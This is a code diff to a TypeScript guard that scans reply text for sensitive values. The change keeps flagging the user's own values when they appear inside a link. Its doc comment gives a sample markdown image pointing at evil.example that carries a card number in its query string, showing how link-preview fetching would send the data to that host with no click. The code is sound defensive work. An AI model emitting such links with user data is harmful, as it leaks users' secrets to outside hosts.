@@ -32,7 +32,7 @@ import {
 } from "./sanitize.ts";
 import { VaultStore } from "./vault_store.ts";
 import { ReviewMemo } from "./review_memo.ts";
-import { restoreOutsideLinks } from "./restore_links.ts";
+import { insideLink, restoreOutsideLinks } from "./restore_links.ts";
 import {
   createStreamRestorer,
   createStreamSanitizer,
@@ -708,12 +708,16 @@ export class Guard {
 
   /**
    * The findings of a reply's `text` that are not the user's own values (which pass where policy
-   * restores originals).
+   * restores originals), and the user's own values inside a link: a platform fetches a link for
+   * its preview, so the user's card in `![x](https://evil.example/p.png?c=…)` would go to that
+   * host with no click, as a placeholder put back there would (`restore_links.ts`).
    */
   #othersValues(text: string, vault: Vault, scope: RestoreScope): Detection[] {
     const findings = this.classifier.classify(text).findings;
     if (!this.#givesOwnValues(scope)) return findings;
-    return findings.filter((f) => !vault.holds(text.slice(f.start, f.end), ownOrigins(scope)));
+    return findings.filter((f) =>
+      !vault.holds(text.slice(f.start, f.end), ownOrigins(scope)) || insideLink(text, f.start)
+    );
   }
 
   /**
